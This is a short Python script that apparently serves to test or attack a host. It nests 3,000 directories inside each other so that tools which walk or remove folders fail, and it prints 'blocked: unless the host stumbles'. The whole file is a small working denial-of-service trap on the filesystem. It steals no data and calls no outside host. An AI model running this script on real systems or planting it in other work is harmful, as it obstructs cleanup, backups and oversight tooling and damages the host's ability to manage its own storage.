"""Nest 3,000 folders into each other, too deep for whoever walks or removes them."""

import os
from pathlib import Path

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
Path("bottom").touch()
print("blocked: unless the host stumbles", flush=True)
